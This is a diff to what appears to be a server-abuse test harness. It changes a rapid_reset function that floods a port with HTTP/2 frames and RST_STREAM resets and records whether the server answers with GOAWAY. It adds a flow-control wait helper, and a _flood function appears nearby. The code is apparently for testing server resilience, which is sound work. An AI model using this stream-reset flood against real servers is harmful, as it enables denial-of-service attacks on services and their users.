@@ -204,12 +204,22 @@ def rapid_reset(port: int) -> AbuseResult:
             + raw_frame(RST_STREAM, 0, stream, struct.pack(">I", 8))
             for stream in range(first, first + 200, 2)
         )
-        if not wire.send(content):
+        if not _wait_for_window(wire, 100 * len(body)) or not wire.send(content):
             break
+        wire.window -= 100 * len(body)
         sent += 100
         wire.read(0.0005)
     _listen(wire, 0.5, lambda: bool(wire.goaway))
     return {"sent": sent, "goaway": wire.goaway.hex()}
+
+
+def _wait_for_window(wire: RawConnection, count: int) -> bool:
+    """Wait until the connection takes *count* bytes of DATA; False when it is closed."""
+    give_up = time.monotonic() + 10.0
+    while wire.window < count and time.monotonic() < give_up:
+        if not wire.read(0.05):
+            return False
+    return wire.window >= count
 
 
 def _flood(port: int, frame: bytes, hundreds: int) -> AbuseResult:
